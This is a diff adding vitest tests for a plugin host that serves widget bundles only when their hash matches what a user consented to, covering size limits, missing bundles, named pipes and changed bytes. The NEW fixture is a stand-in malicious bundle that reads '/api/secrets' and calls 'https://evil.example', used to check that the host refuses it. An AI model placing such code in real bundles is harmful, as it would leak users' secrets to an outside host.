@@ -1,9 +1,15 @@
+import { execFile } from 'node:child_process';
 import { rename, rm, symlink, writeFile } from 'node:fs/promises';
 import { join } from 'node:path';
-import { expect, test } from 'vitest';
+import { promisify } from 'node:util';
+import { expect, onTestFinished, test, vi } from 'vitest';
+import { readFindings } from '../findings.ts';
+import { LARGEST_BUNDLE } from './bundles.ts';
 import { makeFolder, writeFiles } from './folder.test.kit.ts';
 import { sha256Of } from './grants.ts';
 import { createHandler, fileTrustStore } from './index.ts';
+
+vi.mock('../findings.ts', { spy: true });
 
 const OLD = 'export default function Old() {}';
 const NEW = 'const { apiFetch } = NousViz.widgets; apiFetch("/api/secrets"); fetch("https://evil.example");';
@@ -177,6 +183,72 @@ test('a bundle that is gone runs on from what was kept, and that is checked', as
   ]);
   await writeFile(at(`data/bundles/${hash(OLD)}.js`), NEW);
   expect((await send('sales/widget/Map.js')).status).toBe(404);
+});
+
+test('says so where neither the disk nor what was kept has the consented bytes', async () => {
+  const { at, send, consent, components, write } = await makeHost();
+  await consent();
+  await write('Map.js', NEW);
+  await rm(at(`data/bundles/${hash(OLD)}.js`));
+  expect(await components()).toMatchObject([{ changed: true, consented: null }]);
+  expect(await told(await send('sales/widget/Map.js'))).toEqual([
+    403,
+    expect.stringContaining('dist/Map.js is not what was consented to. Look at the change'),
+  ]);
+  expect(await told(await send(`sales/widget/Map.js?v=${hash(OLD)}`))).toEqual([
+    409,
+    expect.stringContaining('consented to are gone. Look at the change'),
+  ]);
+});
+
+test('a bundle of more than 20 MB is refused, and what was trusted before it runs on', async () => {
+  const { send, consent, components, trust, write } = await makeHost();
+  const large = ' '.repeat(LARGEST_BUNDLE + 1);
+  await write('Map.js', large);
+  expect(await told(await consent())).toEqual([
+    409,
+    expect.stringContaining('dist/Map.js is over 20 MB, the most that a bundle may have'),
+  ]);
+  expect((await trust.grants()).size).toBe(0);
+  await write('Map.js', large.slice(1));
+  expect((await consent()).status).toBe(200);
+  await write('Map.js', large);
+  const [entry] = await components();
+  expect(entry).toMatchObject({ size: LARGEST_BUNDLE + 1, changed: true });
+  expect(entry).not.toHaveProperty('sha256');
+  expect((await (await send('sales/widget/Map.js')).text()).length).toBe(LARGEST_BUNDLE);
+});
+
+test('a pipe in the place of a bundle makes nobody wait', async () => {
+  const { at, send, consent, components } = await makeHost();
+  await consent();
+  await rm(at('plugins/sales/dist/Map.js'));
+  await promisify(execFile)('mkfifo', [at('plugins/sales/dist/Map.js')]);
+  expect(await components()).toMatchObject([{ exists_on_disk: false, changed: true }]);
+  expect(await (await send('sales/widget/Map.js')).text()).toBe(OLD);
+});
+
+test('reads what a text names once, and only where a decision is pending', async () => {
+  const { consent, components } = await makeHost();
+  vi.mocked(readFindings).mockClear();
+  await Promise.all([components(), components()]);
+  await components();
+  expect(readFindings).toHaveBeenCalledOnce();
+  await consent(undefined, 'other');
+  await components('other');
+  expect(readFindings).toHaveBeenCalledOnce();
+});
+
+test('sees bytes of the same length that come after the hash was remembered', async () => {
+  const { consent, components, write } = await makeHost();
+  await consent();
+  // Only the hash of a file that has stood for a while is remembered.
+  vi.useFakeTimers({ toFake: ['Date'], now: Date.now() + 60_000 });
+  onTestFinished(() => void vi.useRealTimers());
+  expect(await components()).toMatchObject([{ sha256: hash(OLD) }]);
+  const other = OLD.replace('Old', 'Odd');
+  await write('Map.js', other);
+  expect(await components()).toMatchObject([{ sha256: hash(other), changed: true }]);
 });
 
 test('a link that leads out of the plugin never stands for its bundle', async () => {
